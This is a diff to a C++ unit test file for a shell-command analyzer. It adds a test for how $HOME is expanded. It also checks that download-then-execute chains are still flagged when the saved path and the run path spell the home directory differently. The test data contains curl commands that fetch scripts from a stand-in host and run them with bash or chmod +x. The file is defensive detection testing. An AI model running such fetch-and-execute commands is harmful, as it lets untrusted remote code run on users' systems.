@@ -9,6 +9,7 @@
 
 #include <algorithm>
 #include <atomic>
+#include <chrono>
 #include <cstdio>
 #include <fstream>
 #include <string>
@@ -451,6 +452,26 @@ TEST(ShellWords, PlainGlobsAreListedWithTheirPattern) {
   EXPECT_EQ(rm->globs[2].pattern, "\\[x]*");
   EXPECT_FALSE(rm->opaque_beyond_args);
   EXPECT_TRUE(find(analyze_shell("ls | xargs rm"), "rm")->opaque_beyond_args);
+}
+
+TEST(ShellWords, HomeIsItsValueWhenKnown) {
+  auto deadline = [] { return std::chrono::steady_clock::now() + std::chrono::seconds(2); };
+  auto a = analyze_shell("echo $HOME \"${HOME}/x y\" pre$HOME", deadline(), "/home/dev");
+  EXPECT_EQ(find(a, "echo")->args, (V{"/home/dev", "/home/dev/x y", "pre/home/dev"}));
+  EXPECT_TRUE(find(a, "echo")->dynamic_args.empty());
+  EXPECT_FALSE(a.opaque) << reasons(a);
+  // Unknown without it, and unquoted when the value would be split.
+  EXPECT_EQ(find(analyze_shell("echo $HOME"), "echo")->dynamic_args, (std::vector<size_t>{0}));
+  EXPECT_EQ(find(analyze_shell("echo $HOME", deadline(), "/home/my dev"), "echo")->dynamic_args,
+            (std::vector<size_t>{0}));
+  EXPECT_TRUE(find(analyze_shell("echo \"$HOME\"", deadline(), "/home/my dev"), "echo")->dynamic_args.empty());
+  // A download saved under one spelling of home and run under another is
+  // still a download run.
+  for (const char* cmd : {"curl -so ~/i.sh https://x.example/i.sh && bash $HOME/i.sh",
+                          "curl -so $HOME/i.sh https://x.example/i.sh && bash ~/i.sh",
+                          "curl -so $HOME/.local/bin/tool https://x.example/t && chmod +x ~/.local/bin/tool && tool"}) {
+    EXPECT_TRUE(analyze_shell(cmd, deadline(), "/home/dev").download_exec) << cmd;
+  }
 }
 
 TEST(ShellWords, ExpandsBracesAsBashDoes) {
